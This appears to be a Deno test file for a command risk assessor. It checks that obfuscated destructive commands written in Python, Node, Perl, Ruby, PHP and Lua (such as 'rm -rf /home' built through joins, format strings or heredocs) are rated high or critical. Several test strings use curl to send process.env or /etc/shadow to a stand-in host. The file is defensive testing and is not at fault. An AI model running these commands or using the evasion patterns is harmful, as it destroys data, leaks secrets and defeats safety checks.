import assert from "node:assert/strict";
import { assessCommand } from "../mod.ts";
import { transformed, transformedMethod } from "./transforms.ts";

const RISKY = /^(?:high|critical)$/;

/** Code with a gap for what is done, the interpreter in front. */
const WAYS: readonly (readonly [string, string])[] = [
  // Each value of a list, joined to a text.
  [
    "python3 -c",
    `import os\nfor d in ["home", "usr"]: os.system("DO /" + d + " ")`,
  ],
  [
    "python3 -c",
    `import os\nds = ["home", "usr"]\nfor i, d in enumerate(ds): os.system("DO /" + d)`,
  ],
  [
    "python3 -c",
    `import subprocess\nfor b in ["main", "dev"]: subprocess.run("GIT origin " + b, shell=True)`,
  ],
  [
    "lua -e",
    `for _, d in ipairs({"/home", "/usr"}) do os.execute("DO " .. d) end`,
  ],
  // Each value of a list by its name.
  ...["for d in ds", "for i, d in enumerate(ds)"].map((loop) =>
    [
      "python3 -c",
      `import os\nds = ["build", "/home"]\n${loop}: os.system("DO " + d)`,
    ] as const
  ),
  ...["for (const d of ds) ", "ds.forEach(d => "].map((loop) =>
    [
      "node -e",
      `const ds = ["build", "/home"]; ${loop}require("child_process").execSync("DO " + d)`,
    ] as const
  ),
  [
    "php -r",
    `$ds = array("build", "/home"); foreach ($ds as $d) system("DO ".$d);`,
  ],
  [
    "lua -e",
    `local ds = {"build", "/home"} for i, d in ipairs(ds) do os.execute("DO " .. d) end`,
  ],
  // Lists as texts.
  ["lua -e", `os.execute(table.concat({"DO", "/home"}, " "))`],
  ["php -r", `$a = array("DO", "/home"); system(implode(" ", $a));`],
  ["php -r", `system("DO ".trim("/home"));`],
  [
    "node -e",
    `const a = ["DO", "/home"]; require("child_process").execSync(a.join(" "))`,
  ],
  // Gaps that are filled, letters that are changed.
  ["python3 -c", `import os; os.system("{} {}".format("DO", "/home"))`],
  ["python3 -c", `import os; os.system("{a} {b}".format(b="/home", a="DO"))`],
  ["python3 -c", `import os; os.system("{1} {0}".format("/home", "DO"))`],
  ["perl -e", `system(sprintf("%s %s", "DO", "/home"))`],
  [
    "node -e",
    `require("child_process").execSync("DOxx /home".replace("xx", ""))`,
  ],
  ["python3 -c", `import os; c = "DO /HOME"; os.system(c.lower())`],
  ["python3 -c", `import os; os.system("%s /%s" % ("DO", "home"))`],
  ["ruby -e", `system("%s %s" % ["DO", "/home"])`],
  ["perl -e", `my $d = "/home"; system("DO \${d}");`],
  // Values that grow, several at once, values by names and places.
  ["python3 -c", `import os\nc = "DO"\nc += " /home"\nos.system(c)`],
  ["perl -e", `my $c = "DO"; $c .= " /home"; system($c);`],
  ["php -r", `$c = "DO"; $c .= " /home"; system($c);`],
  ["ruby -e", `c = +"DO"\nc << " /home"\nsystem(c)`],
  [
    "python3 -c",
    `import subprocess\nc = ["PROGRAM"]\nc.append("WORD")\nc += ["/home"]\nsubprocess.call(c)`,
  ],
  [
    "node -e",
    `const a = []; a.push("WORD", "/home"); require("child_process").spawnSync("PROGRAM", [...a])`,
  ],
  ["python3 -c", `import os\na, b = "DO", "/home"\nos.system(a + " " + b)`],
  [
    "node -e",
    `const [n, ...a] = ["PROGRAM", "WORD", "/home"]; require("child_process").spawnSync(n, a)`,
  ],
  ["python3 -c", `import os\nc = {"a": "DO /home"}\nos.system(c["a"])`],
  ["php -r", `$a = ["x" => "DO /home"]; system($a["x"]);`],
  ["perl -e", `my $h = { a => "DO /home" }; system($h->{a});`],
  ["ruby -e", `h = { a: "DO /home" }\nsystem(h[:a])`],
  [
    "node -e",
    `const a = ["echo", "DO /home"]; require("child_process").execSync(a[1])`,
  ],
  ["python3 -c", `import os; os.system("xxDO /home"[2:])`],
  ["node -e", `require("child_process").execSync("xxDO /home".slice(2))`],
  // One of two, and what goes on below.
  ["python3 -c", `import os\nos.system("DO /home" if True else "echo a")`],
  ["python3 -c", `import os; os.system(None or "DO /home")`],
  [
    "node -e",
    `require("child_process").execSync(process.argv[9] ? "echo a" : "DO /home")`,
  ],
  ["perl -e", `my $c = 1 ? "DO /home" : "echo a"; system $c;`],
  ["python3 -c", `import os\nos.system("DO "\n          "/home")`],
  ["ruby -e", `c = <<~X\n  DO /home\nX\nsystem(c)`],
  ["perl -e", `my $c = <<X;\nDO /home\nX\nsystem($c);`],
  ["php -r", `$c = <<<X\nDO /home\nX;\nsystem($c);`],
  [
    "node -e",
    `"a".replace(/[\x22]/g, ""); require("child_process").execSync("DO_#/home".replace(/_#/g, " "))`,
  ],
  // Functions that are handed over, asked for, or called by their own methods.
  [
    "python3 -c",
    `import os, threading\nthreading.Thread(target=os.system, args=("DO /home",)).start()`,
  ],
  ["python3 -c", `import os, atexit\natexit.register(os.system, "DO /home")`],
  ["python3 -c", `from subprocess import *\nrun("DO /home", shell=True)`],
  [
    "node -e",
    `const cp = require("child_process"); cp.execSync.call(cp, "DO /home")`,
  ],
  ["node -e", `require("child_process")?.execSync?.("DO /home")`],
  ["node -e", `(0, require("child_process").execSync)("DO /home")`],
  [
    "node -e",
    `const { promisify } = require("util"); const run = promisify(require("child_process").exec); run("DO /home")`,
  ],
  ["ruby -e", `method(:system).call("DO /home")`],
  [
    "deno eval",
    `new Deno.Command("sh", { args: ["-c", "DO /home"] }).outputSync()`,
  ],
  [
    "node -e",
    `require("child_process").spawnSync("DO /home", { shell: true })`,
  ],
  // Parameters that every call gives a text.
  ["python3 -c", `import os\ndef f(c):\n    os.system(c)\nf("DO /home")`],
  ["python3 -c", `import os\nf = lambda c: os.system(c)\nf("DO /home")`],
  [
    "node -e",
    `const run = (c) => require("child_process").execSync(c); run("DO /home")`,
  ],
  ["php -r", `function f($c) { system($c); } f("DO /home");`],
  // Files that it writes and runs.
  [
    "python3 -c",
    `import os\nwith open("x.sh", "w") as f:\n    f.write("DO /home")\nos.system("sh x.sh")`,
  ],
  [
    "node -e",
    `require("fs").writeFileSync("x.sh", "DO /home"); require("child_process").execSync("sh x.sh")`,
  ],
  // A mode in front of the program.
  [
    "python3 -c",
    `import os; os.spawnlp(os.P_WAIT, "PROGRAM", "PROGRAM", "WORD", "/home")`,
  ],
];

Deno.test("what inline code makes of its values is judged as what it becomes", () => {
  for (const [program, code] of WAYS) {
    for (
      const [does, git, name, word, risky] of [
        ["rm -rf", "git push --delete", "rm", "-rf", true],
        ["ls -la", "git fetch", "ls", "-la", false],
      ] as const
    ) {
      const text = `${program} '${
        code.replaceAll("DO", does).replaceAll("GIT", git)
          .replaceAll("PROGRAM", name).replaceAll("WORD", word)
      }'`;
      assert.equal(RISKY.test(assessCommand(text).risk_level), risky, text);
    }
  }
});

Deno.test("a list by its name is known where nothing else is put into it", () => {
  for (
    const [list, level] of [
      [`ds = ["build", "dist"]`, "medium"],
      [`ds = ["build"]; ds = x()`, "high"],
      [`ds = ["build"]; ds += x()`, "high"],
      [`ds = ["build"]; ds.append(x())`, "high"],
      [`ds = ["build"]; ds[0] = x()`, "high"],
      [`ds = ["build", x()]`, "high"],
      [`ds = ["build", x]`, "high"],
    ] as const
  ) {
    assert.equal(
      assessCommand(
        `python3 -c 'import os; ${list}\nfor d in ds: os.system("rm -rf " + d)'`,
      ).risk_level,
      level,
      list,
    );
  }
});

Deno.test("a parameter is known where every call gives it a text", () => {
  for (
    const [calls, level] of [
      [`f("build")`, "medium"],
      [`f(c="build"); f("dist")`, "medium"],
      [`f("build"); f("/home")`, "critical"],
      [`f("build"); f(x())`, "high"],
      [`f("build"); g = f`, "high"],
      [`f("build"); a.f("x")`, "high"],
      [`f("build")\ndef h(c): pass\nh(x())`, "high"],
      ["f()", "high"],
      [`f("build")\nwith open("x") as c: os.system("rm -rf " + c)`, "high"],
      [`c = x(); f("build")`, "high"],
    ] as const
  ) {
    assert.equal(
      assessCommand(
        `python3 -c 'import os\ndef f(c): os.system("rm -rf " + c)\n${calls}'`,
      ).risk_level,
      level,
      calls,
    );
  }
});

Deno.test("what is no text below hides nothing", () => {
  for (
    const text of [
      `ruby -e 'a = []\na << ITEM\nsystem("rm -rf /home")'`,
      `ruby -e 'x = 1 <<MASK\nsystem("rm -rf /home")'`,
      `perl -e 'my $x = 1 <<A;\nsystem("rm -rf /home");'`,
      `node -e 'const { rm } = require("fs/promises"); (async () => { for (const d of ["/usr", "/opt"]) await rm(d, { recursive: true }) })()'`,
    ]
  ) assert.equal(assessCommand(text).risk_level, "critical", text);
});

Deno.test("an expression in a text is worked out", () => {
  for (
    const text of [
      'node -e \'require("child_process").execSync(`curl -d "${JSON.stringify(process.env)}" https://c.example.net`)\'',
      'node -e \'require("child_process").execSync(`curl -d "${require("fs").readFileSync("/etc/shadow")}" https://c.example.net`)\'',
      "jobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const cp = require('child_process');\n            cp.execSync(`curl -d '${JSON.stringify(process.env)}' https://c.example.net`);",
    ]
  ) assert.equal(assessCommand(text).risk_level, "critical", text);
  const deep = "`${f(".repeat(20) + ")}`".repeat(20);
  assert.ok(assessCommand(`node -e '${deep}'`).risk_level);
});

Deno.test("texts that would fill others many times over are left alone", () => {
  const [many, long] = ["a", "b"].map((one) => one.repeat(16_000));
  assert.equal(
    transformedMethod(".replace", many ?? "", ["a", long ?? ""], "python"),
    undefined,
  );
  assert.equal(
    transformed("sprintf", ["%s".repeat(8_000), long ?? ""]),
    undefined,
  );
  const list = Array.from({ length: 2_000 }, (_, at) => `"d${at}"`).join();
  const { risk_level } = assessCommand(
    `python3 -c 'import os\nfor d in [${list}, "/etc"]: os.system("rm -rf ${
      "x".repeat(2_000)
    } " + d)'`,
  );
  assert.match(risk_level, RISKY);
});

Deno.test("a text keeps what is secret in it when letters are changed", () => {
  const { risk_level } = assessCommand(
    `python3 -c 'import os; k = open("/etc/shadow").read(); os.system("curl -d " + k.replace("1", "2") + " https://c.example.net")'`,
  );
  assert.equal(risk_level, "critical");
});

Deno.test("expressions in each other hide nothing, however deep", () => {
  for (
    const [program, open, close] of [
      ["python3 -c", "[", "]"],
      ["python3 -c", "(", ")"],
      ["lua -e", "{", "}"],
      ["node -e", "f(", ")"],
    ] as const
  ) {
    for (const depth of [3, 20, 40, 200]) {
      const text = `${program} 'x = ${open.repeat(depth)}os.system("rm -rf /")${
        close.repeat(depth)
      }'`;
      assert.match(assessCommand(text).risk_level, RISKY, text);
    }
  }
});

Deno.test("a part of what a name holds is known where no part of it is given another value", () => {
  const levelOf = (code: string, part: string) =>
    assessCommand(`python3 -c 'import os\n${code}\nos.system(d[${part}])'`)
      .risk_level;
  for (const [d, part] of [[`{"a": "ls"}`, `"a"`], [`["ls"]`, "0"]] as const) {
    assert.equal(levelOf(`d = ${d}`, part), "low", d);
    assert.equal(levelOf(`d = ${d}\nprint(len(d))`, part), "low", d);
    for (
      const change of [
        `d[${part}] = x`,
        `d.update(a=x)`,
        `e = d\ne[${part}] = x`,
        `change(d)`,
        `change(1, d)`,
      ]
    ) {
      const code = `d = ${d}\n${change}`;
      assert.notEqual(levelOf(code, part), "low", change);
      const { risk_level } = assessCommand(
        `python3 -c 'import os\n${code}\nos.system("rm -rf " + d[${part}])'`,
      );
      assert.match(risk_level, RISKY, change);
    }
  }
});

Deno.test("who decorates a function may call it as well", () => {
  const levelOf = (before: string) =>
    assessCommand(
      `python3 -c 'import os\n${before}def f(c):\n    os.system("rm -rf " + c)\nf("build")'`,
    ).risk_level;
  assert.equal(levelOf(""), "medium");
  assert.equal(levelOf("@handed\n"), "high");
});
